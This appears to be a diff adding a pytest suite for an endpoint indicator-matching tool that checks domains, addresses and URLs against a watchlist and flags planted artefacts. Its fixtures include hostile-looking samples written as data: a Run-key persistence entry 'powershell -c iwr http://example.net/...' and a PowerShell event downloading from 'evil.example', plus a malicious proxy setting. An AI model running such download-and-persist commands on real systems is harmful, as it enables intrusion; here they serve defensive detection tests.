@@ -1,0 +1,152 @@
+"""Names and addresses seen on a machine are matched as those of a log line are."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from quetsach import engine
+from quetsach.endpoint.fact import fact
+from quetsach.endpoint.watchlist import Watchlist
+from quetsach.engines.portable import PortableMatcher
+from quetsach.feeds.item import parse
+from quetsach.indicator import IndicatorSet, Scope
+from tests.endpoint import world
+
+GOLDEN = Path(__file__).parents[1] / "data/golden.jsonl"
+CASES = [json.loads(line) for line in GOLDEN.read_text(encoding="utf-8").splitlines()]
+ASKED = ("hit", "not-listed", "label-border", "left-side", "subdomains-only", "exact")
+
+
+def socket(address: str, port: int, state: str = "ESTABLISHED") -> dict[str, Any]:
+    return {"sockets": [{"address": address, "port": port, "local_port": 9, "state": state}]}
+
+
+def hits(watchlist: Watchlist, kind: str, **fields: object) -> set[str]:
+    return {indicator.canonical for indicator, _matched, _sure in watchlist.of(fact(kind, **fields))}
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
+def test_golden_case(case: dict[str, Any]) -> None:
+    """What the contract says of a name, an address or a URL in a log holds for one on the machine."""
+    matcher = engine.compile(case["indicators"], guard_rails=False, name="portable")
+    assert isinstance(matcher, PortableMatcher)
+    watchlist = Watchlist(matcher.index.indicators)
+    for expected in case["expect"]:
+        matched, item = expected["matched"], expected["indicator"]
+        if expected["kind"] == "ip-port":
+            address, _colon, port = matched.rpartition(":")
+            assert hits(watchlist, "connection", address=address.strip("[]"), port=port) == {item}
+        elif expected["kind"] == "url":
+            assert item in hits(watchlist, "url-seen", url=f"http://{matched}")
+        elif expected["kind"] in ("ipv4", "ipv6", "cidr"):
+            assert hits(watchlist, "connection", address=matched, port="0") == {item}
+        elif "\\x" not in matched:
+            assert hits(watchlist, "name-seen", name=matched) == {item}
+            assert hits(watchlist, "name-seen", name=f"{matched.upper()}.") == {item}
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
+def test_tokens_of_golden_lines_answer_alike(case: dict[str, Any]) -> None:
+    """A name that the contract does not count in a log is not counted on the machine either."""
+    matcher = engine.compile(case["indicators"], guard_rails=False, name="portable")
+    assert isinstance(matcher, PortableMatcher)
+    watchlist = Watchlist(matcher.index.indicators)
+    told = engine.explain(case["line"], matcher.index.indicators, header=case["header"])
+    for note in told.notes:
+        if note.field == "query" and "\\" not in note.token:
+            wanted = {note.indicator.canonical} if note.code == "hit" and note.indicator else set()
+            if note.code in ASKED:
+                assert hits(watchlist, "name-seen", name=note.token) == wanted
+
+
+@pytest.mark.parametrize(
+    ("name", "listed"),
+    [
+        ("evil.com", True), ("a.b.EVIL.com.", True), ("notevil.com", False), ("evil.com.example.org", False),
+        ("my-evil.com", False), ("xn--bcher-kva.example", True), ("BÜCHER.example", True),
+    ],
+)  # fmt: skip
+def test_names_on_label_borders(name: str, listed: bool) -> None:
+    items = [i for text in ("evil.com", "bücher.example") for i in parse(text, Scope.WITH_SUBDOMAINS)[0]]
+    assert bool(hits(Watchlist(IndicatorSet(items)), "name-seen", name=name)) is listed
+
+
+@pytest.mark.parametrize(
+    ("plant", "verdict"),
+    [
+        (socket("::ffff:198.51.100.66", 80, "SYN_SENT"), "found"),
+        (socket("203.0.113.5", 8443), "found"),
+        (socket("203.0.113.5", 443), "clean"),
+        ({"resolver_cache": ["a.EVIL.example"]}, "check"),
+        ({"files": {world.HOSTS: "198.51.100.66 intranet\n"}}, "found"),
+        ({"files": {world.HOSTS: "0.0.0.0 evil.example\n"}}, "clean"),
+        (
+            {
+                "registry": {
+                    r"HKU\an\Software\Microsoft\Windows\CurrentVersion\Internet Settings": {
+                        "ProxyEnable": 1, "ProxyServer": "http=evil.example:3128",
+                    }
+                }
+            },
+            "found",
+        ),
+        (
+            {
+                "registry": {
+                    r"HKU\an\Software\Microsoft\Windows\CurrentVersion\Run": {
+                        "x": "powershell -c iwr http://example.net/a/b?c -o x"
+                    }
+                }
+            },
+            "found",
+        ),
+        ({"files": {world.HISTORY: "ping evil.example\n"}}, "check"),
+        ({"files": {world.HISTORY: "ping notevil.example\n"}}, "clean"),
+    ],
+)  # fmt: skip
+def test_planted_indicators(plant: dict[str, Any], verdict: str) -> None:
+    result = world.look_at_recording(world.planted(plant))
+    assert str(result.verdict) == verdict
+    assert bool([one for one in result.findings if one.indicator]) is (verdict != "clean")
+
+
+@pytest.mark.parametrize(
+    ("log", "provider", "number", "data", "indicator"),
+    [
+        (
+            "Microsoft-Windows-Sysmon%4Operational.evtx", "Microsoft-Windows-Sysmon", 22,
+            {"QueryName": "cc.evil.example", "Image": r"C:\x.exe"}, "evil.example",
+        ),
+        (
+            "Microsoft-Windows-Sysmon%4Operational.evtx", "Microsoft-Windows-Sysmon", 3,
+            {"DestinationIp": "198.51.100.66", "DestinationPort": 443, "Image": r"C:\x.exe"}, "198.51.100.66",
+        ),
+        (
+            "Security.evtx", "Microsoft-Windows-Security-Auditing", 5156,
+            {"DestAddress": "203.0.113.5", "DestPort": "8443", "Direction": "%%14593", "Application": "x"},
+            "203.0.113.5:8443",
+        ),
+        (
+            "Security.evtx", "Microsoft-Windows-Security-Auditing", 5156,
+            {"DestAddress": "203.0.113.5", "DestPort": "8443", "Direction": "%%14592", "Application": "x"},
+            "",
+        ),
+        (
+            "Microsoft-Windows-PowerShell%4Operational.evtx", "Microsoft-Windows-PowerShell", 4104,
+            {"ScriptBlockText": "a\niwr http://evil.example/x"}, "evil.example",
+        ),
+    ],
+)  # fmt: skip
+def test_planted_events_recorded(log: str, provider: str, number: int, data: Any, indicator: str) -> None:
+    system = {
+        "Provider": {"#attributes": {"Name": provider}},
+        "EventID": {"#text": number, "#attributes": {"Qualifiers": 0}},
+        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-02T01:02:03Z"}},
+    }
+    told = world.planted({"events": {log: [{"System": system, "EventData": data}]}})
+    found = {one.indicator for one in world.look_at_recording(told).findings}
+    assert found == ({indicator} if indicator else set())
